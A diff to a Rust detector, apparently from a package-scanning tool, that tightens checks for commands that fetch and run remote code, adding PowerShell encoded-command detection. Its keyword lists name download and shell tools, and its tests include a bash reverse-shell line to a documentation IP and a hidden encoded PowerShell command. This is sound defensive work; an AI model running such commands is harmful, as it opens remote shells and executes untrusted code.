@@ -5,6 +5,7 @@
 //! the endpoints of distributions.
 
 use wellhead_packages::distribution::{DropPlace, Place, Provenance, addresses, names_receiver, place};
+use wellhead_pycode::command_runs_fetched;
 
 /// What is known of the other end of a path, the least telling first.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
@@ -98,20 +99,34 @@ pub(super) fn is_drop(text: &str) -> bool {
 /// Whether a command fetches something and runs it.
 pub(crate) fn fetches_and_runs(command: &str) -> bool {
     let text = command.to_ascii_lowercase();
-    let fetches = [
-        "curl",
-        "wget",
+    let names = text.contains("http://") || text.contains("https://");
+    let powershell = text.contains("powershell") || text.contains("pwsh");
+    command_runs_fetched(command)
+        || names && text.contains("mshta")
+        || powershell && hides(&text) && (names || is_encoded(&text))
+        || text.contains("/dev/tcp/")
+            && (text.contains("bash -i") || text.contains("0>&1") || text.contains("sh -i"))
+        || ["nc -e ", "ncat -e ", "nc -c ", "bash -i >"]
+            .iter()
+            .any(|w| text.contains(w))
+}
+
+/// Whether a command fetches something and starts something, which need not be the same.
+pub(super) fn fetches_and_starts(command: &str) -> bool {
+    let text = command.to_ascii_lowercase();
+    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
+    has(&[
+        "curl ",
+        "wget ",
         "downloadstring",
         "downloadfile",
         "bitsadmin",
         "certutil",
         "invoke-webrequest",
         "iwr ",
-    ]
-    .iter()
-    .any(|w| text.contains(w));
-    let names = text.contains("http://") || text.contains("https://");
-    let runs = [
+        "invoke-restmethod",
+        "irm ",
+    ]) && has(&[
         "| sh",
         "|sh",
         "| bash",
@@ -122,17 +137,16 @@ pub(crate) fn fetches_and_runs(command: &str) -> bool {
         "invoke-expression",
         "chmod +x",
         "start ",
-    ]
-    .iter()
-    .any(|w| text.contains(w));
-    let powershell = text.contains("powershell") || text.contains("pwsh");
-    let mshta = text.contains("mshta");
-    fetches && runs
-        || names && mshta
-        || powershell && (fetches || names || hides(&text))
-        || text.contains("/dev/tcp/")
-        || text.contains("nc -e ")
-        || text.contains("bash -i")
+        "start-process",
+    ])
+}
+
+/// Whether PowerShell is given a script that nobody can read.
+fn is_encoded(text: &str) -> bool {
+    let mut words = text.split_ascii_whitespace();
+    let option =
+        |w: &str| w.len() > 1 && w.starts_with("-e") && ("-encodedcommand".starts_with(w) || w == "-ec");
+    words.any(option) && words.next().is_some() || text.contains("frombase64string")
 }
 
 /// Whether a command hands the network what other commands say of the host or its user.
@@ -245,6 +259,8 @@ mod tests {
             ("powershell -WindowStyle Hidden -EncodedCommand cABv", true),
             ("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", true),
             ("git clone https://a.example/x", false),
+            ("curl -o data.csv https://a.example/x && start notes.txt", false),
+            ("powershell -WindowStyle Hidden Get-Date", false),
             ("curl -O https://a.example/data.zip", false),
             ("powershell Get-Date", false),
             ("make start ", false),
